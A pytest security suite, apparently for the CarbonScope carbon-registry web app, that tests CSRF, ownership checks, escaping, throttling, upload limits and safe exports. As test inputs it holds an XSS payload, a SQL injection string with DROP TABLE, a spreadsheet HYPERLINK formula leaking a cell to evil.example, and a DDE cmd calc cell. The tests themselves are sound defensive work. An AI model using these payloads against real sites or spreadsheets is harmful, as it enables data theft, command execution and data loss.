"""Security of every write: ownership, CSRF, escaping, injection, throttling, tokens, uploads."""

from __future__ import annotations

import json
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from carbonscope.accounts import tokens, users
from carbonscope.db.schema import comments as comments_table
from carbonscope.db.schema import outbox
from carbonscope.db.schema import proposals as proposals_table
from carbonscope.ingest import ingest
from carbonscope.web.app import create_app
from tests.conftest import NATIVE, ROOT, mailed_link, password_of, person
from tests.web.conftest import app_settings

HTML = {"Accept": "text/html"}
XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
SQLI = "' OR '1'='1'; DROP TABLE users; --"
SQUARE = {"type": "Polygon", "coordinates": [[[-58.5, 5.0], [-58.4, 5.0], [-58.4, 5.1], [-58.5, 5.1], [-58.5, 5.0]]]}


def csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


class Browser:
    """A TestClient with its own cookies, signed in through the pages."""

    def __init__(self, app):
        self.c = TestClient(app, follow_redirects=False)

    def token(self, path="/account/register") -> str:
        return csrf(self.c.get(path, headers=HTML).text)

    def register(self, email, name, password="a-long-password-1"):
        """Sign up, then confirm the address by the mailed link (which signs in)."""
        r = self.c.post(
            "/account/register",
            data={"email": email, "display_name": name, "password": password, "csrf_token": self.token()},
            headers=HTML,
        )
        assert r.status_code == 200 and "Check your mail" in r.text, r.text[:500]
        with self.c.app.state.engine.connect() as conn:
            path = mailed_link(conn, self.c.app.state.settings, to=email.strip().lower())
        r = self.c.post(path, data={"csrf_token": self.token(path)}, headers=HTML)
        assert r.status_code == 303 and r.headers["location"].startswith("/account"), r.text[:500]
        return self

    def post(self, path, data=None, files=None, with_csrf=True):
        data = dict(data or {})
        if with_csrf:
            data["csrf_token"] = self.token("/account")
        return self.c.post(path, data=data, files=files, headers=HTML)


@pytest.fixture
def site(engine, tmp_path):
    ingest([NATIVE / "art-trees"], engine)
    app = create_app(
        app_settings(str(engine.url.render_as_string(hide_password=False)), tmp_path, login_max_failures_per_account=5)
    )
    ana = Browser(app).register("ana@example.org", "Ana")
    ben = Browser(app).register("ben@example.org", "Ben")
    with engine.begin() as tx:
        admin_id = person(tx, "Root", role="admin")["id"]
        ana_token = tokens.create(tx, users.by_email(tx, "ana@example.org")["id"], "ana script")
        ben_token = tokens.create(tx, users.by_email(tx, "ben@example.org")["id"], "ben script")
    r = ana.post(
        "/proposals/new",
        {"name": "Rupununi Forest Guardians", "country": "GY"},
        files={"boundary": ("site.geojson", json.dumps(SQUARE).encode(), "application/json")},
    )
    pid = int(r.headers["location"].rsplit("/", 1)[1])
    r = ana.post("/c/project/ART102/comments", {"body": "Ana's comment"})
    cid = int(r.headers["location"].split("comment-")[1])
    ana.post("/watch", {"kind": "project", "value": "ART102"})
    root = Browser(app)
    root.c.post(
        "/account/login",
        data={"email": "root@example.org", "password": password_of("Root"), "csrf_token": root.token("/account/login")},
        headers=HTML,
    )
    return {
        "root": root,
        "app": app,
        "engine": engine,
        "ana": ana,
        "ben": ben,
        "pid": pid,
        "cid": cid,
        "ana_token": ana_token,
        "ben_token": ben_token,
        "admin_id": admin_id,
    }


FORM_ROUTES = [
    "/account/register",
    "/account/login",
    "/account/logout",
    "/account/password",
    "/account/tokens",
    "/account/tokens/1/revoke",
    "/account/delete",
    "/account/reset",
    "/account/reset/sometoken",
    "/account/verify",
    "/account/verify/sometoken",
    "/account/feed",
    "/watch",
    "/watch/1/delete",
    "/account/notifications/read",
    "/proposals/new",
    "/proposals/1/edit",
    "/proposals/1/withdraw",
    "/proposals/1/link",
    "/c/project/ART102/comments",
    "/comments/1/edit",
    "/comments/1/delete",
    "/report",
    "/c/project/ART102/support",
    "/c/project/ART102/watch",
    "/admin/users/1",
    "/admin/hide",
    "/admin/reports/1/resolve",
    "/news/links/1",
    "/analyses/new",
    "/analyses/someid/cancel",
]


def test_the_list_of_form_routes_is_complete():
    declared = set()
    for f in (ROOT / "carbonscope" / "web").glob("*_pages.py"):
        declared |= set(re.findall(r'@router\.post\("([^"]+)"\)', f.read_text()))
    patterns = {p: re.compile("^" + re.sub(r"\\\{[^}]+\\\}", "[^/]+", re.escape(p)) + "$") for p in declared}
    missing = [p for p, rx in patterns.items() if not any(rx.match(route) for route in FORM_ROUTES)]
    assert missing == [] and len(declared) >= 26


@pytest.mark.parametrize("path", FORM_ROUTES)
def test_every_form_refuses_a_post_without_the_csrf_token(site, path):
    who = (
        site["root"] if path.startswith(("/admin", "/news/links")) else site["ana"]
    )  # signed in with the rights the route needs
    r = who.post(
        path,
        {
            "name": "x",
            "body": "x",
            "email": "a@b.cd",
            "password": "x",
            "action": "disable",
            "target_kind": "comment",
            "target_id": "1",
        },
        with_csrf=False,
    )
    assert r.status_code == 403 and "security token" in r.text, (path, r.status_code)


def test_forged_token_from_another_browser_is_refused(site):
    token_of_ben = site["ben"].token("/account")
    r = site["ana"].c.post(
        "/c/project/ART102/comments", data={"body": "forged", "csrf_token": token_of_ben}, headers=HTML
    )
    assert r.status_code == 403


def test_another_user_cannot_change_what_is_not_theirs(site):
    ben, pid, cid = site["ben"], site["pid"], site["cid"]
    engine = site["engine"]
    with engine.connect() as conn:
        before = conn.execute(select(proposals_table)).all(), conn.execute(select(comments_table)).all()
    attempts = [
        ben.post(f"/proposals/{pid}/edit", {"name": "stolen"}),
        ben.post(f"/proposals/{pid}/withdraw"),
        ben.post(f"/proposals/{pid}/link", {"project_id": "ART102"}),
        ben.post(f"/comments/{cid}/edit", {"body": "stolen", "next": "/"}),
        ben.post(f"/comments/{cid}/delete", {"next": "/"}),
        ben.post("/account/tokens/1/revoke"),
        ben.post("/watch/1/delete"),
        ben.post(f"/admin/users/{site['admin_id']}", {"action": "disable"}),
        ben.post("/admin/hide", {"target_kind": "comment", "target_id": str(cid)}),
    ]
    assert [r.status_code for r in attempts] == [403, 403, 403, 403, 403, 404, 404, 403, 403]
    assert ben.c.get(f"/proposals/{pid}/edit", headers=HTML).status_code == 403
    api = TestClient(site["app"])
    auth = {"Authorization": f"Bearer {site['ben_token']}"}
    calls = [
        api.patch(f"/api/v1/proposals/{pid}", json={"name": "stolen"}, headers=auth),
        api.post(f"/api/v1/proposals/{pid}/withdraw", headers=auth),
        api.post(f"/api/v1/proposals/{pid}/link", json={"project_id": "ART102"}, headers=auth),
        api.put(
            f"/api/v1/proposals/{pid}/boundary",
            files={"file": ("s.geojson", json.dumps(SQUARE).encode())},
            headers=auth,
        ),
        api.post(f"/api/v1/proposals/{pid}/documents", files={"file": ("a.pdf", b"%PDF-1.4 x")}, headers=auth),
        api.patch(f"/api/v1/comments/{cid}", json={"body": "stolen"}, headers=auth),
        api.delete(f"/api/v1/comments/{cid}", headers=auth),
    ]
    assert [r.status_code for r in calls] == [403] * 7
    assert all(r.headers["content-type"] == "application/problem+json" for r in calls)
    with engine.connect() as conn:
        assert (conn.execute(select(proposals_table)).all(), conn.execute(select(comments_table)).all()) == before


def test_write_api_needs_a_token_and_a_revoked_token_stops_working(site):
    api = TestClient(site["app"])
    assert api.post("/api/v1/projects/ART102/comments", json={"body": "anonymous"}).status_code == 401
    auth = {"Authorization": f"Bearer {site['ana_token']}"}
    assert api.post("/api/v1/projects/ART102/comments", json={"body": "via API"}, headers=auth).status_code == 201
    ana = site["ana"]
    page = ana.c.get("/account", headers=HTML).text
    token_id = re.search(r"/account/tokens/(\d+)/revoke", page).group(1)
    assert ana.post(f"/account/tokens/{token_id}/revoke").status_code == 303
    r = api.post("/api/v1/projects/ART102/comments", json={"body": "after revoke"}, headers=auth)
    assert r.status_code == 401 and "revoked" in r.json()["detail"]


def test_xss_payloads_in_every_text_field_come_back_escaped(site):
    app = site["app"]
    eve = Browser(app).register("eve@example.org", XSS[:80])
    fields = {k: XSS for k in ("name", "description", "project_type", "methodology", "developer", "contact")}
    r = eve.post("/proposals/new", fields)
    assert r.status_code == 303
    pid = r.headers["location"].rsplit("/", 1)[1]
    eve.post(f"/c/proposal/{pid}/comments", {"body": XSS})
    eve.post("/c/project/ART102/comments", {"body": XSS})
    eve.post("/account/tokens", {"name": XSS[:80]})
    eve.post("/watch", {"kind": "beneficiary", "value": XSS})
    eve.post("/report", {"target_kind": "comment", "target_id": str(site["cid"]), "reason": XSS, "next": "/"})
    admin = Browser(app)
    admin.c.post(
        "/account/login",
        data={
            "email": "root@example.org",
            "password": password_of("Root"),
            "csrf_token": admin.token("/account/login"),
        },
        headers=HTML,
    )
    pages = [
        eve.c.get(f"/proposals/{pid}", headers=HTML),
        eve.c.get("/proposals", headers=HTML),
        eve.c.get("/projects/ART102", headers=HTML),
        TestClient(app).get("/projects/ART102", headers=HTML),
        eve.c.get("/account", headers=HTML),
        admin.c.get("/admin", headers=HTML),
    ]
    for p in pages:
        assert p.status_code == 200, p.url
        assert "<script>alert(1)</script>" not in p.text and "onerror=alert(2)>" not in p.text.replace("&gt;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[0].text
    # JSON keeps the data as written; it is served as JSON that browsers will not sniff into HTML
    api = TestClient(app).get(f"/api/v1/proposals/{pid}")
    assert (
        api.json()["name"] == XSS
        and api.headers["content-type"] == "application/json"
        and api.headers["x-content-type-options"] == "nosniff"
    )


def test_sql_injection_strings_are_harmless(site):
    app = site["app"]
    b = Browser(app)
    r = b.c.post(
        "/account/login", data={"email": SQLI, "password": SQLI, "csrf_token": b.token("/account/login")}, headers=HTML
    )
    assert r.status_code == 401
    r = b.c.post(
        "/account/register",
        data={"email": SQLI, "display_name": SQLI, "password": "a-long-password-1", "csrf_token": b.token()},
        headers=HTML,
    )
    assert r.status_code == 422
    assert site["ana"].post("/c/project/ART102/comments", {"body": SQLI}).status_code == 303
    for url in (f"/proposals?q={SQLI}", f"/news?q={SQLI}", f"/api/v1/proposals?q={SQLI}", f"/projects?q={SQLI}"):
        assert TestClient(app).get(url, headers=HTML).status_code == 200, url
    with site["engine"].connect() as conn:
        assert (
            conn.execute(
                select(func.count()).select_from(comments_table).where(comments_table.c.body_md == SQLI)
            ).scalar_one()
            == 1
        )
        assert users.by_email(conn, "ana@example.org") is not None


def test_login_throttling_through_the_pages(site):
    b = Browser(site["app"])
    codes = []
    for _ in range(6):
        r = b.c.post(
            "/account/login",
            data={"email": "ana@example.org", "password": "wrong-password", "csrf_token": b.token("/account/login")},
            headers=HTML,
        )
        codes.append(r.status_code)
    assert codes == [401] * 5 + [429] and int(r.headers["retry-after"]) > 0
    r = b.c.post(
        "/account/login",
        data={"email": "ana@example.org", "password": "a-long-password-1", "csrf_token": b.token("/account/login")},
        headers=HTML,
    )
    assert r.status_code == 429


def test_uploads_of_the_wrong_type_or_too_big_are_refused(site):
    ana, engine = site["ana"], site["engine"]
    with engine.connect() as conn:
        n = conn.execute(select(func.count()).select_from(proposals_table)).scalar_one()
    big = b"%PDF-1.4" + b"0" * (10 * 1024 * 1024)
    for files, msg in [
        ({"document": ("x.exe", b"MZ\x90\x00", "application/octet-stream")}, "allowed types"),
        ({"document": ("x.pdf", b"<html><script>alert(1)</script>", "application/pdf")}, "not a PDF"),
        ({"document": ("x.pdf", big, "application/pdf")}, "the limit is"),
        (
            {
                "boundary": (
                    "x.geojson",
                    json.dumps(
                        {
                            "type": "FeatureCollection",
                            "features": [
                                {
                                    "type": "Feature",
                                    "properties": {},
                                    "geometry": {"type": "Point", "coordinates": [1, 2]},
                                }
                            ],
                        }
                    ).encode(),
                    "application/json",
                )
            },
            "must be a polygon",
        ),
        ({"boundary": ("x.kml", b"<kml/>", "application/xml")}, "GeoJSON (.geojson) or GeoPackage"),
    ]:
        r = ana.post("/proposals/new", {"name": "Should not exist"}, files=files)
        assert r.status_code == 422 and msg in r.text, (files, r.status_code)
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(proposals_table)).scalar_one() == n  # nothing half-written
    api = TestClient(site["app"])
    auth = {"Authorization": f"Bearer {site['ana_token']}"}
    r = api.post(f"/api/v1/proposals/{site['pid']}/documents", files={"file": ("x.pdf", big)}, headers=auth)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "document"


def test_no_open_redirects_and_private_pages_need_sign_in(site):
    b = Browser(site["app"]).register("dan@example.org", "Dan")
    r = b.c.post(
        "/account/login",
        data={
            "email": "dan@example.org",
            "password": "a-long-password-1",
            "next": "https://evil.example/",
            "csrf_token": b.token("/account/login"),
        },
        headers=HTML,
    )
    assert r.headers["location"] == "/"
    anon = TestClient(site["app"], follow_redirects=False)
    for path in ("/account", "/proposals/new", "/account/notifications", "/admin"):
        r = anon.get(path, headers=HTML)
        assert r.status_code == 303 and r.headers["location"].startswith("/account/login?next=")
    assert site["ben"].c.get("/admin", headers=HTML).status_code == 403


def test_pages_of_signed_in_users_are_never_served_from_the_shared_cache(site):
    anon = TestClient(site["app"])
    first = anon.get("/projects/ART102", headers=HTML)
    assert "Sign in</a> to support" in first.text and 'name="csrf_token"' not in first.text
    mine = site["ana"].c.get("/projects/ART102", headers=HTML)
    assert "Stop watching" in mine.text and 'name="csrf_token"' in mine.text
    again = anon.get("/projects/ART102", headers=HTML)
    assert "Stop watching" not in again.text and 'name="csrf_token"' not in again.text
    # a new comment shows at once to anonymous readers (the page's cache key follows its comments)
    site["ben"].post("/c/project/ART102/comments", {"body": "fresh words"})
    assert "fresh words" in anon.get("/projects/ART102", headers=HTML).text


def test_hidden_comments_disappear(site):
    app, cid = site["app"], site["cid"]
    site["ben"].post("/report", {"target_kind": "comment", "target_id": str(cid), "reason": "spam", "next": "/"})
    admin = Browser(app)
    admin.c.post(
        "/account/login",
        data={
            "email": "root@example.org",
            "password": password_of("Root"),
            "csrf_token": admin.token("/account/login"),
        },
        headers=HTML,
    )
    page = admin.c.get("/admin", headers=HTML).text
    rid = re.search(r'name="report_id" value="(\d+)"', page).group(1)
    r = admin.c.post(
        "/admin/hide",
        data={
            "target_kind": "comment",
            "target_id": str(cid),
            "report_id": rid,
            "hidden": "1",
            "csrf_token": csrf(page),
        },
        headers=HTML,
    )
    assert r.status_code == 303
    assert "Ana&#39;s comment" not in TestClient(app).get("/projects/ART102", headers=HTML).text
    assert "No open reports" in admin.c.get("/admin", headers=HTML).text


def _comment_block(html: str, cid: int) -> str:
    return re.search(rf'<article class="comment[^"]*" id="comment-{cid}">(.*?)</article>', html, re.S).group(1)


def test_signed_in_copies_of_a_shared_page_are_each_readers_own(site):
    """Signed-in pages are filled per reader from one shared rendering (web/personal.py)."""
    ana, ben, cid = site["ana"], site["ben"], site["cid"]
    ben.post("/c/project/ART102/support")
    forged = "<!--end-0123--> csrf-slot-0123 <!--own-0123-1-->"
    ben.post("/c/project/ART102/comments", {"body": forged})
    pages = {}
    for name, who in (("ana", ana), ("ben", ben)):
        pages[name] = who.c.get("/projects/ART102", headers=HTML).text
        pages[name + "_again"] = who.c.get(
            "/projects/ART102", headers=HTML
        ).text  # second copy: from the shared rendering
    for name, who, display in (("ana", ana, "Ana"), ("ben", ben, "Ben")):
        for html in (pages[name], pages[name + "_again"]):
            assert f'id="nav-account">{display}</a>' in html
            tokens_in_page = set(re.findall(r'name="csrf_token" value="([^"]+)"', html))
            assert tokens_in_page == {who.token("/account")}  # every form carries this reader's token only
            assert (
                "slot" not in html.replace("csrf-slot-0123", "") and "<!--own-" not in html and "<!--nav-" not in html
            )
    ana_view, ben_view = _comment_block(pages["ana_again"], cid), _comment_block(pages["ben_again"], cid)
    assert "Save edit" in ana_view and ">Delete<" in ana_view and ">Report<" not in ana_view  # her own comment
    assert "Save edit" not in ben_view and ">Delete<" not in ben_view and ">Report<" in ben_view
    assert "Stop watching" in pages["ana_again"] and "Stop watching" not in pages["ben_again"]
    assert ">Withdraw support<" in pages["ben_again"] and ">Withdraw support<" not in pages["ana_again"]
    assert 'id="support-count">1<' in pages["ana_again"]
    # the forged markers in Ben's comment are his text, escaped, and change nothing
    assert "&lt;!--end-0123--&gt; csrf-slot-0123" in pages["ana_again"]
    assert pages["ana_again"].count("Save edit") == 1 and pages["ben_again"].count("Save edit") == 1
    # a change to the page (a new comment) reaches signed-in readers at once
    ana.post("/c/project/ART102/comments", {"body": "newer words"})
    assert "newer words" in ben.c.get("/projects/ART102", headers=HTML).text


def test_export_cells_a_spreadsheet_would_run_are_prefixed(db_url, tmp_path):
    """Registry text is not ours to trust: a name that is a formula arrives as text in CSV, Excel and Parquet."""
    import io

    import pandas as pd
    import pyarrow.parquet as pq
    from fastapi.testclient import TestClient
    from openpyxl import load_workbook

    from carbonscope.db.engine import make_engine
    from carbonscope.db.migrate import upgrade
    from carbonscope.ingest import ingest
    from carbonscope.web.app import create_app
    from tests.conftest import NATIVE
    from tests.web.conftest import app_settings

    p = pd.read_csv(NATIVE / "art-trees/projects.csv", dtype=str, keep_default_na=False)
    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Guyana")'
    p.loc[p["Program ID"] == "ART102", "Program Name"] = evil
    p.loc[p["Program ID"] == "ART103", "Sovereign Program Developer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    (tmp_path / "art").mkdir()
    p.to_csv(tmp_path / "art" / "projects.csv", index=False)
    engine = make_engine(db_url)
    upgrade(engine)
    ingest([tmp_path / "art" / "projects.csv"], engine)
    with TestClient(create_app(app_settings(db_url, tmp_path))) as client:
        csv_text = client.get("/api/v1/projects", params={"registry": "ART", "format": "csv"}).text
        df = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False).set_index("id")
        wb = load_workbook(
            io.BytesIO(client.get("/api/v1/projects", params={"registry": "ART", "format": "xlsx"}).content)
        )
        table = (
            pq.read_table(
                io.BytesIO(client.get("/api/v1/projects", params={"registry": "ART", "format": "parquet"}).content)
            )
            .to_pandas()
            .set_index("id")
        )
        shown = client.get("/api/v1/projects/ART102").json()["name"]
    assert df.loc["ART102", "name"] == "'" + evil and df.loc["ART103", "proponent"].startswith("'@SUM")
    ws = wb.active
    header = [c.value for c in ws[1]]
    names = {r[0].value: r[header.index("name")] for r in ws.iter_rows(min_row=2)}
    assert names["ART102"].value == "'" + evil and names["ART102"].data_type == "s"  # a string, not a formula
    assert table.loc["ART102", "name"] == "'" + evil
    assert shown == evil  # the data itself is kept as the registry wrote it; only exports are made safe
    assert (df["issued"].astype(int) >= 0).all()  # numbers are not touched
    engine.dispose()


def test_huge_integers_and_repeated_filters_are_422_not_500(client):
    huge = "9" * 40
    for url, params in (
        (f"/api/v1/proposals/{huge}", {}),
        ("/api/v1/projects", {"issued_min": huge}),
        ("/api/v1/credits", {"quantity_max": huge}),
        ("/api/v1/changes", {"after_id": huge}),
        ("/api/v1/projects", {"methodology": ["VM0007"] * 1_001}),
    ):
        r = client.get(url, params=params)
        assert r.status_code == 422, (url, r.status_code, r.text[:200])
        assert r.headers["content-type"].startswith("application/problem+json")
    assert client.get("/api/v1/projects", params={"issued_min": 2**62}).status_code == 200


def test_a_write_waiting_for_the_lock_does_not_stall_other_requests(site):
    """One API comment waiting for the database write lock (held here as an ingest would) must not
    freeze the event loop: a cached read sent meanwhile answers about as fast as when idle."""
    import threading
    import time

    from fastapi.testclient import TestClient

    from carbonscope.db.engine import write as db_write

    engine = site["engine"]
    if engine.dialect.name != "sqlite":
        pytest.skip("the lock under test is SQLite's write lock")
    auth = {"Authorization": f"Bearer {site['ben_token']}"}
    url = "/api/v1/projects?registry=ART&limit=5"

    def timed(fn):
        t0 = time.perf_counter()
        r = fn()
        return time.perf_counter() - t0, r

    with TestClient(site["app"]) as c:  # one event loop for every request, as in a server worker
        c.get(url)
        idle = min(timed(lambda: c.get(url))[0] for _ in range(5))
        hold = 2.0
        holding, posted = threading.Event(), {}

        def holder():
            with db_write(engine):
                holding.set()
                time.sleep(hold)

        h = threading.Thread(target=holder)
        h.start()
        holding.wait(5)
        p = threading.Thread(
            target=lambda: posted.update(
                r=c.post("/api/v1/projects/ART102/comments", json={"body": "written after the lock"}, headers=auth)
            )
        )
        p.start()
        time.sleep(0.2)  # the comment is now waiting for the lock
        during, r = timed(lambda: c.get(url))
        h.join()
        p.join(10)
    assert r.status_code == 200 and posted["r"].status_code == 201
    assert during < idle + hold / 4, (
        f"a read took {during:.3f} s while a write waited (idle {idle:.3f} s, lock held {hold} s)"
    )


def test_no_install_signs_with_a_key_anyone_knows(tmp_path):
    from carbonscope.settings import Settings

    a = Settings(data_dir=tmp_path / "a").with_secret()
    b = Settings(data_dir=tmp_path / "b").with_secret()
    assert a.secret_key != b.secret_key and len(a.secret_key) >= 48
    assert Settings(data_dir=tmp_path / "a").with_secret().secret_key == a.secret_key  # kept across restarts
    assert oct((tmp_path / "a" / "secret_key").stat().st_mode & 0o777) == "0o600"
    with pytest.raises(ValueError, match="must be set"):
        Settings(env="production")
    with pytest.raises(ValueError, match="at least 16"):
        Settings(secret_key="short")


def test_bodies_are_refused_before_they_are_read(site):
    """No byte of an anonymous upload, and no more than the limit of a signed-in one, is accepted."""
    from fastapi.testclient import TestClient

    from carbonscope.web.middleware import BodyLimit

    pid = site["pid"]
    with TestClient(site["app"]) as anon:
        r = anon.post(
            f"/api/v1/proposals/{pid}/documents",
            files={"file": ("a.pdf", b"%PDF-1.4 " + b"x" * 1000, "application/pdf")},
        )
        assert r.status_code == 401 and "before uploading" in r.json()["detail"]
    limit = next(m.kwargs["max_bytes"] for m in site["app"].user_middleware if m.cls is BodyLimit)
    auth = {"Authorization": f"Bearer {site['ana_token']}"}
    with TestClient(site["app"]) as c:
        big = b"%PDF-1.4 " + b"x" * (limit + 10)
        r = c.post(
            f"/api/v1/proposals/{pid}/documents", files={"file": ("big.pdf", big, "application/pdf")}, headers=auth
        )
        assert r.status_code == 413 and r.headers["content-type"] == "application/problem+json"

        def chunks():  # no Content-Length: counted as it streams
            for _ in range(limit // 65536 + 2):
                yield b"y" * 65536

        r = c.post(
            f"/api/v1/proposals/{pid}/comments", content=chunks(), headers={**auth, "content-type": "application/json"}
        )
        assert r.status_code == 413
        ok = c.post(
            f"/api/v1/proposals/{pid}/documents",
            files={"file": ("small.pdf", b"%PDF-1.4 small", "application/pdf")},
            headers=auth,
        )
        assert ok.status_code != 413 and ok.status_code != 401


def _page_text(html: str) -> str:
    return re.sub(r'value="[^"]*"', "", html)  # form tokens differ per browser


def test_registration_answers_alike_whether_the_address_has_an_account(site):
    """It said "an account with this email already exists"; now both answers are one page and a mail tells the owner."""
    pages = []
    for email in ("ana@example.org", "newcomer@example.org"):
        b = Browser(site["app"])
        r = b.c.post(
            "/account/register",
            data={"email": email, "display_name": "Newcomer", "password": "a-long-password-7", "csrf_token": b.token()},
            headers=HTML,
        )
        assert r.status_code == 200 and "cs_session" not in r.headers.get("set-cookie", "")
        pages.append(_page_text(r.text).replace(email, "EMAIL"))
    assert pages[0] == pages[1]
    with site["engine"].connect() as conn:
        assert users.by_email(conn, "newcomer@example.org")["email_verified_at"] is None
        assert (
            "already has one"
            in conn.execute(
                select(outbox.c.body).where(outbox.c.to_addr == "ana@example.org").order_by(outbox.c.id.desc())
            ).scalar()
        )


def test_an_unconfirmed_account_signs_in_only_through_its_link_and_a_get_confirms_nothing(site):
    b = Browser(site["app"])
    b.c.post(
        "/account/register",
        data={
            "email": "cleo@example.org",
            "display_name": "Cleo",
            "password": "a-long-password-7",
            "csrf_token": b.token(),
        },
        headers=HTML,
    )
    r = b.c.post(
        "/account/login",
        data={"email": "cleo@example.org", "password": "a-long-password-7", "csrf_token": b.token("/account/login")},
        headers=HTML,
    )
    assert (
        r.status_code == 401 and "confirm your e-mail address first" in r.text and 'action="/account/verify"' in r.text
    )
    with site["engine"].connect() as conn:
        path = mailed_link(conn, site["app"].state.settings, to="cleo@example.org")
    assert b.c.get(path, headers=HTML).status_code == 200  # a mail scanner opening the link
    with site["engine"].connect() as conn:
        assert users.by_email(conn, "cleo@example.org")["email_verified_at"] is None
    r = b.c.post(path, data={"csrf_token": b.token(path)}, headers=HTML)
    assert r.status_code == 303 and "cs_session=" in r.headers["set-cookie"]


def test_the_form_token_changes_at_sign_in(site):
    b = Browser(site["app"])
    before = b.token("/account/login")
    raw_before = b.c.cookies.get("cs_csrf")
    r = b.c.post(
        "/account/login",
        data={"email": "ana@example.org", "password": "a-long-password-1", "csrf_token": before},
        headers=HTML,
    )
    assert r.status_code == 303
    assert b.c.cookies.get("cs_csrf") != raw_before
    r = b.c.post("/c/project/ART102/comments", data={"body": "with the old token", "csrf_token": before}, headers=HTML)
    assert r.status_code == 403  # a token planted before sign-in is worth nothing after


def test_admins_see_that_a_reset_was_mailed_not_its_link(site):
    b = Browser(site["app"])
    b.c.post("/account/reset", data={"email": "ana@example.org", "csrf_token": b.token("/account/reset")}, headers=HTML)
    with site["engine"].connect() as conn:
        path = mailed_link(conn, site["app"].state.settings, to="ana@example.org")
    page = site["root"].c.get("/admin", headers=HTML).text
    assert "Reset your CarbonScope password" in page and path not in page and path.rsplit("/", 1)[1] not in page


def test_headers_hsts_when_set_and_api_docs_cannot_be_framed(db_url, tmp_path):
    app = create_app(app_settings(db_url, tmp_path, hsts_seconds=31536000))
    with TestClient(app) as c:
        assert c.get("/", headers=HTML).headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
        assert "frame-ancestors 'none'" in c.get("/api/docs", headers=HTML).headers["content-security-policy"]
    with TestClient(create_app(app_settings(db_url, tmp_path / "b"))) as c:
        assert "strict-transport-security" not in c.get("/", headers=HTML).headers


def test_client_address_comes_from_a_proxy_only_when_it_is_trusted(db_url, tmp_path):
    from carbonscope.db.schema import login_attempts

    for trusted, expected in ((None, "testclient"), ("*", "203.0.113.7")):
        app = create_app(app_settings(db_url, tmp_path / str(bool(trusted)), forwarded_allow_ips=trusted))
        b = Browser(app)
        b.c.post(
            "/account/login",
            data={"email": "x@example.org", "password": "wrong-password", "csrf_token": b.token("/account/login")},
            headers={**HTML, "X-Forwarded-For": "203.0.113.7"},
        )
        with app.state.engine.connect() as conn:
            seen = conn.execute(select(login_attempts.c.address).order_by(login_attempts.c.id.desc())).scalar()
        assert seen == expected, trusted


def test_exports_beyond_the_slots_wait_with_503(client):
    slots = client.app.state.export_slots
    leases = [slots.lease() for _ in range(slots.n)]
    r = client.get("/api/v1/projects", params={"format": "xlsx"})
    assert (
        r.status_code == 503
        and int(r.headers["retry-after"]) > 0
        and "exports are being prepared" in r.json()["detail"]
    )
    for lease in leases:
        lease.release()
    for _ in range(slots.n + 1):  # each finished export gives its slot back
        assert client.get("/api/v1/projects", params={"format": "csv", "registry": "ART"}).status_code == 200


def test_the_password_meter_gives_the_policys_verdict(client):
    weak = client.post(
        "/api/v1/password-strength", json={"password": "Password123!", "email": "ana@example.org"}
    ).json()
    strong = client.post(
        "/api/v1/password-strength", json={"password": "tapir moss ledger quietly", "email": "ana@example.org"}
    ).json()
    assert not weak["acceptable"] and "leaked" in weak["words"]
    assert strong["acceptable"] and strong["score"] >= 3


def test_housekeeping_sends_queued_mail_and_prunes(site):
    from carbonscope.jobs import housekeeping

    b = Browser(site["app"])
    b.c.post("/account/reset", data={"email": "ana@example.org", "csrf_token": b.token("/account/reset")}, headers=HTML)
    out = housekeeping(site["app"].state.settings, site["engine"])
    assert out["mail"]["sent"] >= 1 and "sessions" in out["pruned"]
    with site["engine"].connect() as conn:
        assert conn.execute(select(func.count()).where(outbox.c.sent_at.is_(None))).scalar_one() == 0
